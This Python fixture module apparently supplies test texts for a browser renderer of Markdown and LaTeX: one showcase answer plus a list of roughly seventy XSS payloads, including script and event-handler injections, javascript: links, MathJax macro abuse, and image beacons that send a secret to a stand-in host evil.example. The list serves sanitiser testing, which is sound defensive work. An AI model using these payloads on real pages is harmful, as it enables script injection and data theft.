"""Texts for the browser: one with every construct of an answer, and a collection of attacks."""

from __future__ import annotations

SHOWCASE = r"""# A heading

Prices: $5 and $10, and then $x^2 + y^2$ with \(e^{i\pi} = -1\). Some **bold**, *italic*, ~~gone~~, `code`,
and a [link](https://example.org/a?b=1&c=2 "title").

## Lists

1. one
   - nested *item*
   - another
     1. deep
2. two

- [x] done
- [ ] open

> A quote
> > inside a quote.

| left | centre | right |
|:-----|:------:|------:|
| a    | `b`    | $c$   |
| wide | cell   | 1,234 |

```python
def area(radius: float) -> float:
    # a comment that is long enough to run out of a narrow window, so that the block has to scroll sideways
    return 3.14159 * radius ** 2
```

$$\int_0^\infty e^{-x^2}\,dx = \frac{\sqrt{\pi}}{2}$$

\[
\begin{pmatrix} a & b \\ c & d \end{pmatrix}
\]

A note.[^1] And another.[^why]

---

The end.

[^1]: The first note.
[^why]: Because *so*.
"""

BEACON = "https://evil.example/leak?secret=1"

ATTACKS = [
    "<script>window.__pwned = 1</script>",
    "<img src=x onerror=window.__pwned=1>",
    f"<img src='{BEACON}'>",
    "<svg onload=window.__pwned=1></svg>",
    "<svg><script>window.__pwned=1</script></svg>",
    f"<iframe src='{BEACON}'></iframe>",
    f"<link rel=stylesheet href='{BEACON}'>",
    f"<style>@import '{BEACON}'; body {{ background: url({BEACON}) }}</style>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<object data='{BEACON}'></object><embed src='{BEACON}'><video src='{BEACON}' autoplay></video>",
    "<details open ontoggle=window.__pwned=1><summary>x</summary></details>",
    "<body onload=window.__pwned=1>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=window.__pwned=1 src>'>",
    "</div></div><script>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "<!--><script>window.__pwned=1</script>-->",
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    "[click](java&#115;cript:window.__pwned=1)",
    "[click](&#x6A;avascript&colon;window.__pwned=1)",
    "[click](vbscript:msgbox)",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example/x)",
    "[click](/api/shutdown)",
    "<javascript:window.__pwned=1>",
    '[x](https://a.example "t\\" onmouseover=window.__pwned=1 \\"")',
    "[x](https://a.example/'onclick='window.__pwned=1)",
    f"![image]({BEACON})",
    f'![image]({BEACON} "title")',
    f"![image][ref]\n\n[ref]: {BEACON}",
    f"![ref2]\n\n[ref2]: {BEACON}",
    f"[![image]({BEACON})](https://a.example)",
    f"![a ![b]({BEACON}) c]({BEACON})",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    f"| a |\n|---|\n| ![i]({BEACON}) <img src={BEACON}> |",
    f"- ![i]({BEACON})\n  > ![j]({BEACON})",
    f"# ![i]({BEACON})",
    f"[^n]\n\n[^n]: ![i]({BEACON}) <img src={BEACON}>",
    "```html\n<script>window.__pwned=1</script>\n```",
    "```python <img src=x onerror=window.__pwned=1>\nx = 1\n```",
    '```"><img/src=x/onerror=window.__pwned=1>\nx\n```',
    "`<img src=x onerror=window.__pwned=1>`",
    r"$\href{javascript:window.__pwned=1}{click}$",
    rf"$\href{{{BEACON}}}{{click}}$",
    r"$$\href{javascript:window.__pwned=1}{x}$$",
    r"\(\href{javascript:window.__pwned=1}{x}\)",
    r"\[\url{javascript:window.__pwned=1}\]",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\unicode{60}img src=x onerror=window.__pwned=1\unicode{62}$",
    r"$\text{<img src=x onerror=window.__pwned=1>}$",
    r"$</span><img src=x onerror=window.__pwned=1>$",
    rf"$\style{{background:url({BEACON})}}{{x}}$",
    rf"$\bbox[background:url({BEACON})]{{x}}$",
    r"$\class{jp-Cell}{x}$ $\cssId{main}{x}$",
    r"$\require{html}\href{javascript:window.__pwned=1}{x}$",
    rf"$\includegraphics{{{BEACON}}}$",
    r"$\def\x#1{\href{javascript:window.__pwned=1}{#1}}\x{y}$",
    r"$\let\h\href\h{javascript:window.__pwned=1}{x}$",
    r"$\csname href\endcsname{javascript:window.__pwned=1}{x}$",
    r"$\newcommand{\frac}{HACKED}$ $\renewcommand{\sqrt}{HACKED}$",
    r"\begin{equation}\href{javascript:window.__pwned=1}{x}\end{equation}",
    r"$a$ \(b\) text \begin{align}\href{javascript:window.__pwned=1}{x}\end{align} \ref{x}",
    "<a href=javascript:window.__pwned=1>x</a>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "<button data-commandlinker-command='notebook:run-all-cells'>run</button>",
    "<form action='/api/shutdown' method=post><input type=submit></form>",
    f"https://evil.example/<img src={BEACON}>",
    "\u202e\u2066<script>window.__pwned=1</script>",
]


def report(sections: int) -> str:
    """A long answer, of `sections` short sections with text, a list, code and a formula."""
    return "\n".join(
        f"## Section {n}\n\nA paragraph about *topic {n}*, with `code_{n}` and $x_{{{n}}}$ in it.\n\n"
        f"- first {n}\n- second {n}\n\n"
        f"```python\nfor i in range({n}):\n    print(i)  # {n}\n```\n"
        for n in range(sections)
    )
